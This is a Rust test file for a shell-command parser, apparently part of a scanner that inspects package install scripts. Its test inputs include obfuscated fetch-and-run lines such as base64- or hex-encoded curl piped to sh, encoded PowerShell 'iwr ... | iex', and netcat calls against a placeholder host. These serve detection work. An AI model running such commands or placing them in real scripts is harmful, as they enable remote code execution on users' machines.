use super::*;

#[test]
fn quotes_and_escapes_are_resolved() {
    let script = posix(r#"c\ur"l" 'a b' "c d"e $'\x68i' "" "#);
    assert_eq!(words(&script), [vec!["curl", "a b", "c de", "hi", ""]]);
    assert!(script.is_complete);
}

#[test]
fn lists_pipes_and_prefixes_are_told_apart() {
    let script = posix("A=b cmd1 x && cmd2 || cmd3; cmd4 | cmd5 & # comment");
    assert_eq!(words(&script), [vec!["cmd1", "x"], vec!["cmd2"], vec!["cmd3"], vec!["cmd4"], vec!["cmd5"]]);
    assert_eq!(script.commands[0].assignments[0].0, "A");
    assert_eq!(script.commands[0].assignments[0].1.text, "b");
    assert_eq!(script.commands[4].pipes_from, [3]);
    assert!(script.commands[4].background);
}

#[test]
fn spans_point_into_the_input() {
    let text = "true && sh -c 'curl x.invalid/a'";
    let script = posix(text);
    let inner = script.commands.last().unwrap();
    assert_eq!(&text[inner.span.0..inner.span.1], "curl x.invalid/a");
    assert_eq!(inner.origin, Origin::Nested);
    assert_eq!(inner.parent, Some(1));
    assert_eq!(inner.depth, 1);
}

#[test]
fn substitutions_are_commands_of_their_own() {
    let text = "echo \"a $(whoami) `id -u` $X\" <(ls)";
    let script = posix(text);
    assert_eq!(words(&script)[1..], [vec!["whoami"], vec!["id", "-u"], vec!["ls"]]);
    let word = &script.commands[0].words[1];
    assert_eq!(word.text, format!("a {UNKNOWN} {UNKNOWN} {UNKNOWN}"));
    assert_eq!(word.variables, ["X"]);
    assert_eq!(word.substitutions, [1, 2]);
    let inner = &script.commands[1];
    assert_eq!(&text[inner.span.0..inner.span.1], "whoami");
}

#[test]
fn keywords_are_swallowed() {
    let script = posix("if true; then a; elif b; then c; else d; fi; while e; do f; done; ! g; { h; }; (i)");
    let names: Vec<&str> = words(&script).into_iter().map(|words| words[0]).collect();
    assert_eq!(names, ["true", "a", "b", "c", "d", "e", "f", "g", "h", "i"]);
}

#[test]
fn for_and_case_show_their_commands() {
    let script = posix("for x in a b; do c $x; done; case $(uname) in Linux|Darwin) d;; *) e ;; esac; f");
    let names: Vec<&str> = words(&script).into_iter().map(|words| words[0]).collect();
    assert_eq!(names, ["for", "c", "case", "uname", "d", "e", "f"]);
}

#[test]
fn function_bodies_are_read() {
    let script = posix("go() { curl x.invalid/y; }; go");
    assert_eq!(words(&script), [vec!["curl", "x.invalid/y"], vec!["go"]]);
}

#[test]
fn a_here_document_is_input() {
    let script = posix("sh <<'EOF'\ncurl x.invalid/a\nEOF\nnext");
    assert_eq!(words(&script), [vec!["sh"], vec!["curl", "x.invalid/a"], vec!["next"]]);
    assert_eq!(posix("cat <<-X\n\tbody $(id)\n\tX\n").commands[1].words[0].text, "id");
}

#[test]
fn redirects_are_kept() {
    let script = posix("a > out 2>&1 < in >> log");
    let kinds: Vec<_> = script.commands[0].redirects.iter().map(|it| (it.descriptor, it.kind)).collect();
    use RedirectKind::{Append, Duplicate, Read, Write};
    assert_eq!(kinds, [(None, Write), (Some(2), Duplicate), (None, Read), (None, Append)]);
}

#[test]
fn constants_set_by_the_script_are_resolved() {
    assert_eq!(words(&posix("A=cu; B=rl; $A$B x"))[0], ["curl", "x"]);
    assert_eq!(words(&posix("$(echo Y3VybA== | base64 -d) x"))[0], ["curl", "x"]);
}

#[test]
fn ifs_separates_words() {
    assert_eq!(words(&posix("curl${IFS}x.invalid/a$IFS-s")), [vec!["curl", "x.invalid/a", "-s"]]);
}

#[test]
fn decoded_text_is_read_as_a_script() {
    let script = posix("echo Y3VybCB4LmludmFsaWQvYQ== | base64 -d | sh");
    let last = script.commands.last().unwrap();
    assert_eq!(last.words[0].text, "curl");
    assert_eq!(last.origin, Origin::Decoded);
    let script = posix("eval \"$(printf '%s' Y3VybCB4LmludmFsaWQvYQ== | base64 --decode)\"");
    assert!(words(&script).contains(&vec!["curl", "x.invalid/a"]));
    let script = posix("bash -c \"`echo 6375726c20782e696e76616c69642f61 | xxd -r -p`\"");
    assert!(words(&script).contains(&vec!["curl", "x.invalid/a"]));
}

#[test]
fn shells_are_entered_through_wrappers() {
    for text in [
        "sudo -u me sh -c 'go x'",
        "env A=b bash -lc 'go x'",
        "nohup timeout 5 sh -c 'go x' &",
        "cmd /c go x",
        "cmd.exe /d /s /c \"go x\"",
        "powershell -NoProfile -ExecutionPolicy Bypass -Command \"go x\"",
        "powershell.exe -w hidden go x",
        "bash -c \"sh -c 'go x'\"",
        "npx -c 'go x'",
        "echo 'go x' | sh",
        "bash <<< 'go x'",
        "find . -name y -exec sh -c 'go x' ;",
    ] {
        assert!(words(&posix(text)).contains(&vec!["go", "x"]), "{text}");
    }
}

#[test]
fn encoded_powershell_is_decoded() {
    let units: Vec<u8> = "iwr http://x.invalid/a | iex".encode_utf16().flat_map(u16::to_le_bytes).collect();
    use base64::Engine as _;
    let text = format!("powershell -nop -e {}", base64::engine::general_purpose::STANDARD.encode(units));
    let script = posix(&text);
    assert_eq!(words(&script)[1], ["iwr", "http://x.invalid/a"]);
    assert_eq!(script.commands[1].origin, Origin::Decoded);
}

#[test]
fn cmd_reads_carets_percents_and_ampersands() {
    let script = read("c^url \"a b\" %TOKEN% & @echo 'x y'", Dialect::Cmd, &Limits::default());
    assert_eq!(words(&script), [vec!["curl", "a b", "\u{fffc}"], vec!["@echo", "'x", "y'"]]);
    assert_eq!(script.commands[0].words[2].variables, ["TOKEN"]);
    assert!(!script.commands[0].background);
}

#[test]
fn both_shells_are_read_where_they_differ() {
    assert_eq!(read_manifest_script("node a.js", &Limits::default()).len(), 1);
    assert_eq!(read_manifest_script("node -e 'a'", &Limits::default()).len(), 2);
}

#[test]
fn a_group_is_the_source_of_its_pipe() {
    let script = posix("(a; b) | c");
    assert_eq!(script.commands[2].pipes_from, [0, 1]);
    let script = posix("a | while read x; do b; done");
    assert_eq!(script.commands[2].pipes_from, [0]);
}

#[test]
fn an_unclosed_quote_or_bracket_is_incomplete() {
    for text in ["echo 'a", "echo \"a", "echo $(a", "echo `a", "cat <<EOF\nx"] {
        assert!(!posix(text).is_complete, "{text}");
    }
}

#[test]
fn nesting_is_capped() {
    let deep = format!("echo {}x{}", "$(".repeat(50_000), ")".repeat(50_000));
    assert!(!posix(&deep).is_complete);
    let deep = "`".repeat(100_001);
    assert!(!posix(&deep).is_complete);
    assert!(posix(&"(".repeat(100_000)).commands.is_empty());
}

#[test]
fn many_commands_are_capped() {
    let script = posix(&"curl -o a x.invalid/a; sh b | nc c;".repeat(20_000));
    assert_eq!((script.commands.len(), script.is_complete), (5_000, false));
    assert!(!behaviours(&script).is_empty());
}

#[test]
fn growth_by_variables_is_capped() {
    let mut text = String::from("A=xxxxxxxxxxxxxxxx;");
    for _ in 0..200 {
        text.push_str("A=$A$A$A$A;");
    }
    text.push_str("eval $A");
    assert!(posix(&text).commands.len() > 200);
}

#[test]
fn too_large_a_text_is_refused() {
    let limits = Limits { script_bytes: 4, ..Limits::default() };
    assert!(!read("echo a", Dialect::Posix, &limits).is_complete);
}

#[test]
fn node_is_read_with_its_options() {
    let file = |path: &str| Run::NodeFile { path: path.into(), arguments: vec![], requires: vec![] };
    assert_eq!(started("node scripts/postinstall.js || exit 0"), [file("scripts/postinstall.js")]);
    assert_eq!(started("node --max-old-space-size=4096 ./a"), [file("./a")]);
    assert_eq!(started("\"$npm_node_execpath\" a.js"), [file("a.js")]);
    assert_eq!(started("./setup.mjs"), [file("./setup.mjs")]);
    assert_eq!(started("bun run a.ts"), [file("a.ts")]);
    assert_eq!(
        started("cat a.js | node"),
        [Run::Program { name: "cat".into(), arguments: vec!["a.js".into()] }, file("a.js")]
    );
    assert_eq!(
        started("cross-env NODE_OPTIONS='--require ./p.js' node -r ./q a.js b"),
        [Run::NodeFile {
            path: "a.js".into(),
            arguments: vec!["b".into()],
            requires: vec!["./p.js".into(), "./q".into()]
        }]
    );
    for text in [
        "node -e 'x(1)'",
        "node --eval='x(1)'",
        "node -p \"x(1)\"",
        "echo 'x(1)' | node -",
        "bun -e 'x(1)'",
        "deno eval 'x(1)'",
    ] {
        let code = started(text).into_iter().find_map(|run| match run {
            Run::NodeCode { code, .. } => Some(code),
            _ => None,
        });
        assert_eq!(code.as_deref(), Some("x(1)"), "{text}");
    }
}

#[test]
fn package_scripts_and_packages_are_told_apart() {
    let script = |name: &str| Run::PackageScript { name: name.into() };
    assert_eq!(started("npm run build"), [script("build")]);
    assert_eq!(started("npm test && yarn go && pnpm run -s x"), [script("test"), script("go"), script("x")]);
    assert_eq!(started("run-s a b"), [script("a"), script("b")]);
    assert_eq!(started("bun run build"), [script("build")]);
    assert_eq!(started("npx -y only-allow pnpm"), [Run::Package { name: "only-allow".into() }]);
    assert_eq!(started("yarn dlx tool@1 x"), [Run::Package { name: "tool@1".into() }]);
}

#[test]
fn other_interpreters_are_told_apart() {
    let file = |interpreter: &str, path: &str| Run::InterpreterFile {
        interpreter: interpreter.into(),
        path: path.into(),
    };
    assert_eq!(started("python3 a.py"), [file("python3", "a.py")]);
    assert_eq!(started("bash ./a.sh"), [file("bash", "./a.sh")]);
    assert_eq!(started("./a.sh"), [file("sh", "./a.sh")]);
    assert_eq!(started("powershell -File a.ps1"), [file("powershell", "a.ps1")]);
    let code = Run::InterpreterCode { interpreter: "python".into(), code: "print(1)".into() };
    assert_eq!(started("python -c 'print(1)'"), [code]);
}
